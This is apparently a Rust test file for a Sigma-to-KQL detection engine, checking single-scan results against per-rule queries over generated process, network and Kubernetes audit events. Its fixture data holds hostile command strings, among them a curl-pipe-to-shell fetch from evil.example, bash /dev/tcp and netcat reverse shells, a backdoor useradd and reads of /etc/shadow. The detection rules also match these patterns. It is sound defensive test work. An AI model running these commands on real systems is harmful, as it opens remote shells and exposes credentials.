//! The one-scan executor against the per-rule KQL plans: many Sigma rules
//! (every modifier, condition form and filters, over process, network and
//! Kubernetes audit tables) in one pack, over deterministic generated
//! events with mixed case, non-ASCII text, empty and absent values. Each
//! rule's run through its table's single scan must give exactly the rows
//! and alerts of its own KQL query.

use std::collections::HashMap;
use std::sync::Arc;

use datafusion::arrow::record_batch::RecordBatch;
use datafusion::datasource::MemTable;
use detect::fold::AlertCaps;
use detect::rule::Rule;
use detect::run::run_rule_capped;
use detect::sigma_scan::plan::SHORTEST_SEARCHED;
use detect::sigma_scan::{ScanRun, TableScan, plan_one, plan_pack, run_scan};
use kql_engine::{Catalog, Engine, EngineConfig};
use serde_json::{Map, Value as J, json};
use sigma::{Mapping, Target};
use telemetry::batch::{TableBuilder, Value};

/// A small deterministic generator (xorshift64*).
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[(self.next() % xs.len() as u64) as usize]
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
}

const FOLDERS: &[&str] = &[
    "/usr/bin/curl",
    "/usr/bin/CURL",
    "/bin/bash",
    "/bin/sh",
    "/usr/bin/python3",
    "/tmp/.x/nc",
    "/usr/bin/wget",
    "/bin/ls",
    "/usr/bin/base64",
    "/usr/sbin/useradd",
    "/opt/\u{3a9}mega/bin/run",
    "",
    "/usr/bin/\u{212a}ubectl",
    "/usr/bin/kubectl",
];

const COMMANDS: &[&str] = &[
    "curl -s http://evil.example/x.sh | sh",
    "wget -O- http://1.2.3.4/a",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "base64 -d /tmp/p",
    "echo aGVsbG8= | base64 -d",
    "pwsh -enc VwByAGkAdABlAC0ASABvAHMAdAAgAHcAaABvAGEAbQBpAA==",
    "useradd -m backdoor",
    "ls *.txt",
    "chmod +x /tmp/x",
    "nc -e /bin/sh 1.2.3.4 9",
    "base64 /d secret \u{2013}w 0",
    "KUBECTL exec -it pod -- sh",
    "cat /etc/shadow",
    "",
    "line1\nLINE2 cat /ETC/SHADOW",
    "\u{3a3}\u{3c3}\u{3c2} grep root",
];

const ACCOUNTS: &[&str] = &["root", "Admin", "alice", "", "administrator", "ROOT", "adm1n"];

fn process_rows(g: &mut Gen, n: usize) -> Vec<J> {
    (0..n)
        .map(|i| {
            let mut r = Map::new();
            r.insert("ReportId".into(), json!(i));
            if g.chance(95) {
                r.insert("FolderPath".into(), json!(g.pick(FOLDERS)));
            }
            let mut cmd = g.pick(COMMANDS).to_string();
            if g.chance(30) {
                cmd = format!("{cmd} && {}", g.pick(COMMANDS));
            }
            if g.chance(95) {
                r.insert("ProcessCommandLine".into(), json!(cmd));
            }
            if g.chance(85) {
                r.insert("AccountName".into(), json!(g.pick(ACCOUNTS)));
            }
            if g.chance(85) {
                r.insert("InitiatingProcessAccountName".into(), json!(g.pick(ACCOUNTS)));
            }
            if g.chance(90) {
                r.insert("InitiatingProcessFolderPath".into(), json!(g.pick(FOLDERS)));
            }
            if g.chance(90) {
                r.insert("ProcessId".into(), json!(g.next() % 5000));
            }
            if g.chance(50) {
                let cwd = g.pick(&["/tmp", "/root", "/home/alice", "/TMP/x"]);
                r.insert("AdditionalFields".into(), json!(format!("{{\"ProcessCurrentWorkingDirectory\":\"{cwd}\"}}")));
            }
            if g.chance(90) {
                let t = format!(
                    "2026-{:02}-{:02}T{:02}:{:02}:00Z",
                    1 + g.next() % 12,
                    1 + g.next() % 28,
                    g.next() % 24,
                    g.next() % 60
                );
                r.insert("Timestamp".into(), json!(t));
            }
            r.insert("DeviceName".into(), json!(g.pick(&["node-1", "node-2", "NODE-3"])));
            J::Object(r)
        })
        .collect()
}

fn network_rows(g: &mut Gen, n: usize) -> Vec<J> {
    (0..n)
        .map(|i| {
            let mut r = Map::new();
            r.insert("ReportId".into(), json!(i));
            if g.chance(90) {
                let ip = g.pick(&[
                    "10.1.2.3",
                    "192.168.0.7",
                    "8.8.8.8",
                    "fe80::1c:2",
                    "::ffff:10.9.9.9",
                    "172.16.5.4",
                    "2001:db8::1",
                    "",
                ]);
                r.insert("RemoteIP".into(), json!(ip));
            }
            if g.chance(90) {
                r.insert("RemotePort".into(), json!([22, 53, 443, 4444, 8080, 31337][(g.next() % 6) as usize]));
            }
            if g.chance(80) {
                r.insert("InitiatingProcessFolderPath".into(), json!(g.pick(FOLDERS)));
            }
            if g.chance(80) {
                r.insert("RemoteUrl".into(), json!(g.pick(&["evil.example", "pastebin.com", "EXAMPLE.org", ""])));
            }
            J::Object(r)
        })
        .collect()
}

fn audit_rows(g: &mut Gen, n: usize) -> Vec<J> {
    (0..n)
        .map(|i| {
            let mut r = Map::new();
            r.insert("AuditId".into(), json!(format!("a{i}")));
            r.insert("Verb".into(), json!(g.pick(&["get", "create", "delete", "list", "CREATE", "patch"])));
            let resource = g.pick(&["pods", "secrets", "configmaps", "Pods", "clusterrolebindings"]);
            let obj = if g.chance(40) {
                format!("{{\"resource\":\"{resource}\",\"subresource\":\"{}\"}}", g.pick(&["exec", "attach", "log"]))
            } else if g.chance(90) {
                format!("{{\"resource\":\"{resource}\",\"namespace\":\"{}\"}}", g.pick(&["kube-system", "default"]))
            } else {
                "{}".into()
            };
            r.insert("ObjectRef".into(), json!(obj));
            if g.chance(90) {
                let code = [200, 201, 403, 404][(g.next() % 4) as usize];
                r.insert("ResponseStatus".into(), json!(format!("{{\"code\":{code}}}")));
            }
            if g.chance(80) {
                let user = g.pick(&["system:serviceaccount:kube-system:x", "alice", "system:anonymous", "Admin"]);
                r.insert("User".into(), json!(format!("{{\"username\":\"{user}\"}}")));
            }
            if g.chance(70) {
                r.insert("UserAgent".into(), json!(g.pick(&["kubectl/v1.29", "curl/8.0", "Go-http-client/1.1"])));
            }
            J::Object(r)
        })
        .collect()
}

fn table(name: &str, rows: &[J]) -> Vec<RecordBatch> {
    let schema = telemetry::tables::get(name).unwrap();
    let mut b = TableBuilder::new(schema.clone());
    let mut batches = Vec::new();
    for (i, r) in rows.iter().enumerate() {
        let mut row = b.row();
        for (k, v) in r.as_object().unwrap() {
            let col = b.col(k);
            let ty = schema.field(col).data_type();
            row.set(col, Value::from_json(ty, v).unwrap());
        }
        b.push(&row);
        // Several batches, so the scan carries state across them.
        if i % 700 == 699 {
            batches.push(b.finish());
        }
    }
    batches.push(b.finish());
    batches
}

/// The rules: one per modifier and condition form, and a few sharing tests.
fn rules() -> String {
    let proc = |id: &str, det: &str| {
        format!(
            "title: {id}\nid: {id}\nlevel: high\ntags: [attack.execution, attack.t1059]\n\
             logsource: {{product: linux, category: process_creation}}\nfields: [CommandLine, CurrentDirectory]\n\
             detection:\n{det}---\n"
        )
    };
    let net = |id: &str, det: &str| {
        format!(
            "title: {id}\nid: {id}\nlogsource: {{product: linux, category: network_connection}}\ndetection:\n{det}---\n"
        )
    };
    let k8s = |id: &str, det: &str| {
        format!("title: {id}\nid: {id}\nlogsource: {{product: kubernetes, service: audit}}\ndetection:\n{det}---\n")
    };
    let mut s = String::new();
    for (id, det) in [
        ("p-equal", "  s:\n    Image: /usr/bin/curl\n  condition: s\n"),
        ("p-equal-2", "  s:\n    Image: /usr/bin/curl\n    User: root\n  condition: s\n"),
        ("p-list", "  s:\n    Image: [/bin/bash, /bin/sh, /usr/bin/kubectl]\n  condition: s\n"),
        ("p-cased", "  s:\n    Image|cased: /usr/bin/CURL\n  condition: s\n"),
        ("p-cased-list", "  s:\n    User|cased: [root, ROOT]\n  condition: s\n"),
        ("p-contains", "  s:\n    CommandLine|contains: /etc/shadow\n  condition: s\n"),
        // The literal of `p-equal-2`'s equality, searched anywhere.
        ("p-contains-equal-text", "  s:\n    User|contains: root\n  condition: s\n"),
        ("p-contains-cased", "  s:\n    CommandLine|contains|cased: /ETC/\n  condition: s\n"),
        // Literals of one or two bytes, which the leaf tests itself rather
        // than the automata: ASCII with case folded, a non-ASCII letter,
        // case-sensitive, reached only past another test, at either end,
        // and inside a wildcard pattern.
        ("p-short", "  s:\n    CommandLine|contains: ['0', 'E2', '\u{3c3}']\n  condition: s\n"),
        (
            "p-short-and",
            "  s:\n    Image|endswith: /bash\n  k:\n    CommandLine|contains: ['0', '6']\n  condition: s and k\n",
        ),
        ("p-short-ends", "  s:\n    Image|endswith: ['h', 'L']\n    CommandLine|startswith: 'c'\n  condition: s\n"),
        ("p-short-wild", "  s:\n    CommandLine: '*0?0*'\n  condition: s\n"),
        ("p-short-unicode", "  s:\n    Image|contains: '\u{3a9}'\n  condition: s\n"),
        ("p-short-cased", "  s:\n    CommandLine|contains|cased: ['LI', '-D', 'x']\n  condition: s\n"),
        ("p-contains-all", "  s:\n    CommandLine|contains|all: [base64, ' -d']\n  condition: s\n"),
        ("p-starts", "  s:\n    CommandLine|startswith: [curl, WGET]\n  condition: s\n"),
        ("p-ends", "  s:\n    Image|endswith: [/nc, /curl, 'ubectl']\n  condition: s\n"),
        ("p-wild", "  s:\n    CommandLine: '*-i >& /dev/tcp/*'\n  condition: s\n"),
        ("p-wild-mid", "  s:\n    CommandLine: 'b*64 -?*'\n  condition: s\n"),
        ("p-wild-cased", "  s:\n    CommandLine|cased: '*LINE2*SHADOW'\n  condition: s\n"),
        ("p-escape", "  s:\n    CommandLine|contains: '\\*.txt'\n  condition: s\n"),
        ("p-unicode", "  s:\n    CommandLine|contains: '\u{3c3}\u{3c3}\u{3c3}'\n  condition: s\n"),
        ("p-kelvin", "  s:\n    Image|contains: KUBECTL\n  condition: s\n"),
        ("p-exists", "  s:\n    User|exists: true\n  condition: s\n"),
        ("p-not-exists", "  s:\n    User|exists: false\n  condition: s\n"),
        ("p-null", "  s:\n    User: null\n  condition: s\n"),
        ("p-empty", "  s:\n    User: ''\n  condition: s\n"),
        ("p-neq", "  s:\n    User|neq: [root, alice]\n  condition: s\n"),
        ("p-re", "  s:\n    CommandLine|re: '\\d+\\.\\d+\\.\\d+\\.\\d+'\n  condition: s\n"),
        ("p-re-i", "  s:\n    CommandLine|re|i: '^kubectl exec'\n  condition: s\n"),
        ("p-re-m", "  s:\n    CommandLine|re|m: '^LINE2'\n  condition: s\n"),
        ("p-re-s", "  s:\n    CommandLine|re|s: 'line1.LINE2'\n  condition: s\n"),
        ("p-base64", "  s:\n    CommandLine|base64|contains: hello\n  condition: s\n"),
        ("p-base64offset", "  s:\n    CommandLine|base64offset|contains: ello\n  condition: s\n"),
        ("p-wide", "  s:\n    CommandLine|wide|base64offset|contains: whoami\n  condition: s\n"),
        ("p-utf16le", "  s:\n    CommandLine|utf16le|base64offset|contains: Write-Host\n  condition: s\n"),
        ("p-utf16be", "  s:\n    CommandLine|utf16be|base64offset|contains: Write\n  condition: s\n"),
        ("p-utf16", "  s:\n    CommandLine|utf16|base64offset|contains: Write\n  condition: s\n"),
        ("p-windash", "  s:\n    CommandLine|windash|contains: [' -d', ' -w 0']\n  condition: s\n"),
        ("p-gt", "  s:\n    ProcessId|gt: 4000\n  condition: s\n"),
        ("p-lte", "  s:\n    ProcessId|lte: 10\n  condition: s\n"),
        ("p-lt-gte", "  s1:\n    ProcessId|lt: 300\n  s2:\n    ProcessId|gte: 100\n  condition: s1 and s2\n"),
        ("p-number", "  s:\n    ProcessId: [1, 2, 3, 42, 4999]\n  condition: s\n"),
        ("p-number-text", "  s:\n    ProcessId: '4*'\n  condition: s\n"),
        ("p-expand", "  s:\n    User|expand: '%admins%'\n  condition: s\n"),
        ("p-fieldref", "  s:\n    User|fieldref: ParentUser\n  condition: s\n"),
        ("p-fieldref-cased", "  s:\n    User|fieldref|cased: ParentUser\n  condition: s\n"),
        ("p-fieldref-start", "  s:\n    CommandLine|fieldref|startswith: ParentUser\n  condition: s\n"),
        ("p-path", "  s:\n    CurrentDirectory|startswith: /tmp\n  condition: s\n"),
        ("p-keywords", "  kw:\n    - 'pty.spawn'\n    - '/dev/tcp/'\n  condition: kw\n"),
        ("p-keywords-all", "  kw:\n    '|all':\n      - curl\n      - sh\n  condition: kw\n"),
        ("p-not", "  s:\n    Image|endswith: /curl\n  f:\n    User: root\n  condition: s and not f\n"),
        ("p-not-only", "  s:\n    CommandLine|contains: base64\n  condition: not s\n"),
        ("p-or", "  a:\n    Image|endswith: /nc\n  b:\n    CommandLine|contains: useradd\n  condition: a or b\n"),
        (
            "p-1-of",
            "  sel_a:\n    CommandLine|contains: wget\n  sel_b:\n    CommandLine|contains: chmod\n  condition: 1 of sel_*\n",
        ),
        (
            "p-all-of",
            "  sel_a:\n    CommandLine|contains: base64\n  sel_b:\n    User: root\n  _x:\n    Image: /nope\n  condition: all of sel_* and not 1 of _*\n",
        ),
        (
            "p-all-of-them",
            "  sel_a:\n    CommandLine|contains: curl\n  sel_b:\n    Image|endswith: curl\n  condition: all of them\n",
        ),
        (
            "p-parens",
            "  a:\n    User: root\n  b:\n    User: alice\n  c:\n    Image|contains: bin\n  condition: (a or b) and not c\n",
        ),
        ("p-condition-list", "  a:\n    User: Admin\n  b:\n    Image: /bin/ls\n  condition:\n    - a\n    - b\n"),
        (
            "p-maps-list",
            "  s:\n    - Image|endswith: /sh\n      User: root\n    - CommandLine|contains: pty\n  condition: s\n",
        ),
        ("p-hour", "  s:\n    EventTime|hour: 3\n  condition: s\n"),
        ("p-not-hour", "  s:\n    EventTime|month|gte: 6\n  condition: not s\n"),
        ("p-filtered", "  s:\n    Image|endswith: /curl\n  condition: s\n"),
    ] {
        s.push_str(&proc(id, det));
    }
    s.push_str(
        "title: f\nlogsource: {product: linux, category: process_creation}\nfilter:\n  rules: [p-filtered]\n  \
         selection:\n    User|startswith: adm\n  condition: selection\n---\n",
    );
    for (id, det) in [
        ("n-cidr", "  s:\n    DestinationIp|cidr: [10.0.0.0/8, 172.16.0.0/12]\n  condition: s\n"),
        ("n-cidr6", "  s:\n    DestinationIp|cidr: 'fe80::/10'\n  condition: s\n"),
        ("n-not-cidr", "  s:\n    DestinationIp|cidr: 192.168.0.0/16\n  condition: not s\n"),
        ("n-port", "  s:\n    DestinationPort: [4444, 31337]\n  condition: s\n"),
        ("n-port-gt", "  s:\n    DestinationPort|gt: 1024\n    Image|endswith: /nc\n  condition: s\n"),
        ("n-host", "  s:\n    DestinationHostname|endswith: [.example, pastebin.com]\n  condition: s\n"),
    ] {
        s.push_str(&net(id, det));
    }
    for (id, det) in [
        ("k-exec", "  s:\n    objectRef.resource: pods\n    objectRef.subresource: exec\n  condition: s\n"),
        ("k-secrets", "  s:\n    verb: [get, list]\n    objectRef.resource: secrets\n  condition: s\n"),
        ("k-code", "  s:\n    responseStatus.code: 403\n  condition: s\n"),
        (
            "k-anon",
            "  s:\n    user.username|startswith: system:anonymous\n  f:\n    verb: get\n  condition: s and not f\n",
        ),
        ("k-agent", "  s:\n    userAgent|contains: curl\n  condition: s\n"),
        ("k-ns", "  s:\n    objectRef.namespace|exists: false\n  condition: s\n"),
    ] {
        s.push_str(&k8s(id, det));
    }
    s
}

#[test]
fn one_scan_gives_the_rows_and_alerts_of_each_rules_query() {
    let mut g = Gen(0x5eed_1234_abcd_0001);
    let mut catalog = Catalog::new();
    let mut data = HashMap::new();
    data.insert("DeviceProcessEvents", table("DeviceProcessEvents", &process_rows(&mut g, 3000)));
    data.insert("DeviceNetworkEvents", table("DeviceNetworkEvents", &network_rows(&mut g, 1500)));
    data.insert("AKSAudit", table("AKSAudit", &audit_rows(&mut g, 1500)));
    for (name, batches) in &data {
        let schema = batches[0].schema();
        catalog.register(name, Arc::new(MemTable::try_new(schema, vec![batches.clone()]).unwrap()));
    }
    let engine = Engine::new(catalog, EngineConfig::unlimited());

    let mut mapping = Mapping::builtin();
    for s in &mut mapping.sources {
        if s.table == "DeviceProcessEvents" {
            s.fields.push(("EventTime".into(), Target::Column("Timestamp".into())));
        }
    }
    mapping.placeholders.values.push(("admins".into(), vec!["root".into(), "adm*".into()]));
    let mut pack = detect::RulePack::default();
    pack.sigma.mapping = Some(Arc::new(mapping));
    pack.add_text(&rules(), "parity.yml");
    assert!(pack.errors().next().is_none(), "{:#?}", pack.errors().collect::<Vec<_>>());
    assert_eq!(pack.rules.len(), 75);

    let scans = plan_pack(&pack);
    let tables: Vec<&str> = scans.iter().map(|s| s.plan.table.as_str()).collect();
    assert_eq!(tables, ["DeviceProcessEvents", "DeviceNetworkEvents", "AKSAudit"]);
    assert_eq!(scans.iter().map(|s| s.rules.len()).sum::<usize>(), pack.rules.len());
    // Equal tests of different rules are one leaf.
    let process = &scans[0].plan;
    assert!(process.leaves.len() < process.rules.len() * 2, "{} leaves", process.leaves.len());
    // Literals too short to search for are left to their leaves.
    let short = |n: &&detect::sigma_scan::plan::Needle| !n.whole && n.text.len() < SHORTEST_SEARCHED;
    assert_eq!(process.needles.iter().filter(short).count(), 0);
    // Most rules are reached only through their needles.
    let gated = process.rules.iter().filter(|r| r.needles.is_some()).count();
    assert!(gated * 2 > process.rules.len(), "{gated} of {} rules gated by needles", process.rules.len());

    let caps = AlertCaps { max_alerts: 100_000, max_evidence: 10 };
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let now = 1_800_000_000_000_000_000;
    let mut firing = 0;
    // A scan fed the table's batches in chunks, as `hunt` feeds it.
    let chunked = |scan: &TableScan, rules: &[Rule]| {
        let mut run = ScanRun::new(scan, rules, caps).unwrap();
        for chunk in data[scan.plan.table.as_str()].chunks(2) {
            rt.block_on(run.feed_chunk(chunk, EngineConfig::unlimited(), now)).unwrap();
        }
        run.finish(now).runs
    };
    let mut engine_free = 0;
    for scan in &scans {
        let runs = rt.block_on(run_scan(&engine, scan, &pack.rules, now, caps)).unwrap();
        let by_chunks = chunked(scan, &pack.rules);
        for ((&i, by_scan), by_chunk) in scan.rules.iter().zip(runs).zip(by_chunks) {
            let rule = &pack.rules[i];
            let by_kql = rt.block_on(run_rule_capped(&engine, rule, now, caps)).unwrap();
            assert_eq!(by_scan.rows, by_kql.rows, "{}: {}", rule.id, rule.query);
            assert_eq!(by_scan.alerts, by_kql.alerts, "{}: {}", rule.id, rule.query);
            assert_eq!(by_chunk.rows, by_kql.rows, "chunked {}: {}", rule.id, rule.query);
            assert_eq!(by_chunk.alerts, by_kql.alerts, "chunked {}: {}", rule.id, rule.query);
            // The rule's scan alone: many read only text columns, and run
            // no engine query over a chunk at all.
            let one = plan_one(&pack, i).unwrap();
            if one.plan.engine_leaves.is_empty() && one.plan.extend_columns.is_empty() {
                engine_free += 1;
            }
            let alone = chunked(&one, std::slice::from_ref(rule)).remove(0);
            assert_eq!(alone.rows, by_kql.rows, "chunked alone {}: {}", rule.id, rule.query);
            assert_eq!(alone.alerts, by_kql.alerts, "chunked alone {}: {}", rule.id, rule.query);
            if by_scan.rows > 0 {
                firing += 1;
            }
        }
    }
    // The events are made so that nearly every rule matches some of them.
    assert!(firing >= pack.rules.len() - 4, "{firing} of {} rules match", pack.rules.len());
    assert!(engine_free >= 5, "{engine_free} rules without an engine query");
}
